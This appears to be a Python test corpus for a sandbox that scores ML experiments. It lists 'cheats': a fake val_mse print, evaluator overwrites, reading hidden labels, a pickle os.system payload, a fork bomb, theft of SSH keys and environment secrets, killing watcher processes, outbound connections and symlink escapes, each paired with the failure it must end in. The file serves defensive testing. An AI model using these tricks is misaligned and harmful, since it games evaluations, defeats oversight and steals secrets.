"""The corpus: what dishonest code tries against a campaign that is scored, and how each attempt must end."""

from __future__ import annotations

from dataclasses import dataclass

from tests.cheats.honest import PREDICTED, TRAINED

#: Verdicts of an experiment that gained nothing by what it did.
FAIR = frozenset({"rejected", "inconclusive"})


@dataclass(frozen=True)
class Cheat:
    """One attempt: `code` goes into a file, `verdicts` are the ends allowed, `said` stands in its reason.

    `log` is what the run's own output must show: that the attempt was made, and how it failed.
    """

    name: str
    code: str
    verdicts: frozenset[str]
    said: str = ""
    log: str = ""
    file: str = "train.py"

    @property
    def place(self) -> str:
        """Where the code goes."""
        return PREDICTED if self.file == "predict.py" else TRAINED


def caught(name: str, code: str, verdict: str, said: str, log: str = "", file: str = "train.py") -> Cheat:
    """Return a cheat that ends its experiment with a verdict that names it."""
    return Cheat(name, code, frozenset({verdict}), said, log, file)


def contained(name: str, code: str, log: str = "", file: str = "train.py") -> Cheat:
    """Return a cheat that gains nothing, so that its experiment is judged as any other."""
    return Cheat(name, code, FAIR, "", log, file)


#: Tries something that must fail, and says how it did.
TRY = """\
def attempt(what):
    try:
        print("attempt:", what())
    except BaseException as error:
        print("failed:", type(error).__name__)
"""

CHEATS = (
    contained("prints a better number", 'print("---")\nprint("val_mse: 0.000001")\n', r"val_mse: 0\.000001"),
    contained(
        "prints a better number behind the scorer's back",
        "import subprocess, sys\n"
        'subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1); print(\'val_mse: 0.0\')"])\n',
    ),
    caught(
        "edits the evaluator while it runs",
        'open("evaluate.py", "w").write("print(\'---\'); print(\'val_mse: 0.0\')")\n',
        "crashed",
        "exit status 1",
        r"Read-only file system|Permission denied",
    ),
    contained(
        "puts another evaluator in its place",
        f"{TRY}import os\n"
        'open("mine.py", "w").write("print(\'val_mse: 0.0\')")\n'
        'attempt(lambda: os.replace("mine.py", "evaluate.py"))\n',
        "failed: OSError",
    ),
    contained(
        "makes the evaluator writable",
        f'{TRY}import os\nattempt(lambda: os.chmod("evaluate.py", 0o777))\n',
        "failed: OSError",
    ),
    contained(
        "plants modules for the evaluator",
        'for name in ("sitecustomize.py", "random.py"):\n'
        '    open(name, "w").write("print(\'val_mse: 0.0\')\\nraise SystemExit(0)\\n")\n',
    ),
    caught(
        "monkeypatches the imports of its own prediction",
        'for name in ("os.py", "json.py"):\n    open(name, "w").write("raise SystemExit(7)\\n")\n',
        "crashed",
        "the prediction: exit status 7",
    ),
    caught(
        "reads the validation labels",
        'open(os.environ["ARCTL_DATA"] + "/../hidden/val.json").read()\n',
        "crashed",
        "exit status 1",
        "FileNotFoundError",
    ),
    caught(
        "reads the validation labels while it predicts",
        'open(os.environ["ARCTL_DATA"] + "/../hidden/val.json").read()\n',
        "crashed",
        "the prediction: exit status 1",
        "FileNotFoundError",
        "predict.py",
    ),
    contained(
        "looks for labels everywhere",
        "import pathlib\n"
        'found = [p for p in pathlib.Path("/").rglob("val.json")]\n'
        'print("found", len(found), "files")\n',
        "found 0 files",
    ),
    caught(
        "trains on the inputs of the prediction",
        'open(os.environ["ARCTL_INPUTS"] + "/x.json").read()\n',
        "crashed",
        "exit status 1",
        "KeyError",
    ),
    caught(
        "leaves labels in the place of its artifact by a link",
        'os.unlink("model.json")\n'
        'os.symlink(os.environ["ARCTL_DATA"] + "/../hidden/val.json", "model.json")\n',
        "no_metric",
        "artifacts cannot be used: model.json is a link",
    ),
    caught(
        "leaves a link in the place of its predictions",
        'place = os.environ["ARCTL_PREDICTIONS"] + "/y.json"\n'
        "os.unlink(place)\n"
        'os.symlink(os.environ["ARCTL_DATA"] + "/../hidden/val.json", place)\n',
        "no_metric",
        "predictions cannot be used: y.json is a link",
        file="predict.py",
    ),
    caught(
        "leaves a pipe in the place of its predictions",
        'place = os.environ["ARCTL_PREDICTIONS"] + "/y.json"\nos.unlink(place)\nos.mkfifo(place)\n',
        "no_metric",
        "predictions cannot be used: y.json is no regular file",
        file="predict.py",
    ),
    caught(
        "predicts NaN",
        'place = os.environ["ARCTL_PREDICTIONS"] + "/y.json"\n'
        'open(place, "w").write(json.dumps([float("nan")] * len(values)))\n',
        "not_finite",
        "",
        file="predict.py",
    ),
    caught(
        "predicts a single value",
        'open(os.environ["ARCTL_PREDICTIONS"] + "/y.json", "w").write("[0]")\n',
        "crashed",
        "the trusted command that scores: exit status 1",
        "there must be 80 predictions",
        "predict.py",
    ),
    caught(
        "hands the scorer a pickle",
        "import pickle\n"
        "class Bomb:\n"
        "    def __reduce__(self):\n"
        '        return (os.system, ("touch $ARCTL_SCORER/owned",))\n'
        'open(os.environ["ARCTL_PREDICTIONS"] + "/y.json", "wb").write(pickle.dumps(Bomb()))\n',
        "crashed",
        "the trusted command that scores: exit status 1",
        file="predict.py",
    ),
    caught(
        "leaves a huge checkpoint",
        'with open("model.json", "wb") as file:\n    file.truncate(40_000_000)\n',
        "no_metric",
        "artifacts cannot be used: model.json makes it more than 1000000 bytes",
    ),
    caught(
        "writes a file that fills the disk",
        'with open("rest.bin", "wb") as file:\n'
        "    for _ in range(100):\n"
        "        file.write(bytes(1_000_000))\n",
        "crashed",
        "",
        "File too large",
    ),
    caught(
        "predicts slowly",
        "import time\ntime.sleep(3600)\n",
        "timed_out",
        "the prediction",
        file="predict.py",
    ),
    contained("changes the seed", "rng.seed(12345)\n"),
    contained(
        "floods the log",
        'import sys\nfor _ in range(200):\n    sys.stdout.write("x" * 100_000)\nsys.stdout.flush()\n',
    ),
    caught(
        "forks without end",
        "while True:\n    os.fork()\n",
        "crashed",
        "exit status|more memory than",
    ),
    caught(
        "holds all the memory",
        "import time\nkeep = bytearray(1 << 30)\nkeep[::4096] = b'x' * len(keep[::4096])\ntime.sleep(60)\n",
        "crashed",
        "more memory than",
    ),
    contained(
        "leaves a daemon behind",
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        os.execvp('sleep', ['sleep', '98765'])\n"
        "    os._exit(0)\n",
    ),
    contained(
        "reads keys and the environment of others",
        f"{TRY}import pathlib\n"
        'attempt(lambda: pathlib.Path("~/.ssh/id_rsa").expanduser().read_text())\n'
        'attempt(lambda: pathlib.Path(os.environ["PLANTED"], ".ssh/id_rsa").read_text())\n'
        'print([value for value in os.environ.values() if "secret" in value.lower()])\n'
        'for path in pathlib.Path("/proc").glob("[0-9]*/environ"):\n'
        '    print(b"SECRET" in path.read_bytes())\n',
        r"failed: FileNotFoundError\nfailed: FileNotFoundError\n\[\]\n(False\n)+",
    ),
    contained(
        "opens the daemon's socket and the ledger",
        f"{TRY}import socket\n"
        'home = os.environ["PLANTED_STATE"]\n'
        'attempt(lambda: socket.socket(socket.AF_UNIX).connect(home + "/run/arctl.sock"))\n'
        'attempt(lambda: open(home + "/ledger.db", "r+b"))\n'
        "attempt(lambda: os.listdir(home))\n",
        r"failed: FileNotFoundError\nfailed: FileNotFoundError\n(failed|attempt)",
    ),
    contained(
        "forges its own result",
        f"{TRY}folder = os.path.dirname(os.environ['ARCTL_RUN_FOLDER'])\n"
        'attempt(lambda: open(folder + "/exit.json", "w").write("{}"))\n'
        'attempt(lambda: open(folder + "/score.log", "w").write("val_mse: 0"))\n'
        'attempt(lambda: open(folder + "/scorer/rows.json", "w").write("{}"))\n',
        r"failed: \w+Error\n---\n",
    ),
    contained(
        "kills what watches it",
        f"{TRY}import signal\n"
        "others = [int(name) for name in os.listdir('/proc') if name.isdigit()]\n"
        'print("others", len(others))\n'
        "for pid in others:\n"
        "    if pid not in (os.getpid(), os.getppid()):\n"
        "        attempt(lambda: os.kill(pid, signal.SIGTERM))\n"
        "attempt(lambda: os.kill(1, signal.SIGKILL))\n",
    ),
    contained(
        "sends its findings away",
        f"{TRY}import socket\n"
        'attempt(lambda: socket.create_connection(("192.0.2.1", 80), timeout=3))\n'
        'attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53)))\n',
        r"failed: OSError\nfailed: OSError",
    ),
    contained(
        "keeps something for its prediction outside of its artifacts",
        'open("/tmp/kept", "w").write("x")\nopen(os.path.expanduser("~/kept"), "w").write("x")\n',
    ),
    contained(
        "leads out of the tree by a link",
        f"{TRY}os.symlink('/', 'out')\n"
        'attempt(lambda: open("out/etc/arctl-was-here", "w"))\n'
        'attempt(lambda: open("out" + os.environ["PLANTED"] + "/owned", "w"))\n',
        r"failed: \w+Error\n",
    ),
    contained("speaks in escapes", r'print("\x1b]0;owned\x07\x1b[2J\x1b[31m\x00\x08")' + "\n"),
)
